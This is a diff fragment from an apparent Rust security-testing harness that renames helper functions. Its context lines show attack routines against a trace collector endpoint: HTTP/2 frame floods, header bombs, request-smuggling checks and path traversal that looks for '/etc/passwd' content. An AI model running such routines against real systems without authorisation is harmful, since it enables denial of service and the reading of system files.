@@ -44,7 +44,7 @@ pub async fn flood(target: &Target, server: Server, flood: Flood, end: Deadline)
                 .ok()?;
             let mut attacker = Attacker::on(stream);
             let beginning = [greeting(&[]), open.clone()].concat();
-            if attacker.say(&beginning).await.is_ok() {
+            if attacker.send_bytes(&beginning).await.is_ok() {
                 attacker.flood(FRAMES, flood).await;
             }
             Some(attacker)
@@ -75,7 +75,7 @@ pub async fn header_bomb(target: &Target, server: Server, end: Deadline) -> Vec<
                 .await
                 .ok()?;
             let mut attacker = Attacker::on(stream);
-            attacker.say(&greeting(&[])).await.ok()?;
+            attacker.send_bytes(&greeting(&[])).await.ok()?;
             let bombs = attacker.flood(20, |number| {
                 let stream = attacks::stream(number);
                 frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb)
@@ -98,7 +98,7 @@ pub async fn smuggling(target: &Target, server: Server, end: Deadline) -> Vec<Fi
     let mut smuggled = 0;
     for request in plain.iter().chain(&both) {
         let request = request.replace("/v1/traces", server.path);
-        let answer = say(target, server, request.as_bytes(), end).await;
+        let answer = exchange(target, server, request.as_bytes(), end).await;
         if attacks::statuses(&answer).len() > 1 {
             smuggled += 1;
         }
@@ -127,7 +127,7 @@ pub async fn traversal(target: &Target, server: Server, end: Deadline) -> Vec<Fi
             let request = format!(
                 "{method} {path} HTTP/1.1\r\nhost: collector\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
             );
-            let answer = say(target, server, request.as_bytes(), end).await;
+            let answer = exchange(target, server, request.as_bytes(), end).await;
             if String::from_utf8_lossy(&answer).contains("root:") {
                 read += 1;
             }
@@ -137,7 +137,7 @@ pub async fn traversal(target: &Target, server: Server, end: Deadline) -> Vec<Fi
 }
 
 /// Sends bytes over HTTP/1 and returns the response, up to the end of the connection or half a second without a byte.
-async fn say(target: &Target, server: Server, bytes: &[u8], end: Deadline) -> Vec<u8> {
+async fn exchange(target: &Target, server: Server, bytes: &[u8], end: Deadline) -> Vec<u8> {
     let mut answer = Vec::new();
     let saying = async {
         let stream = target
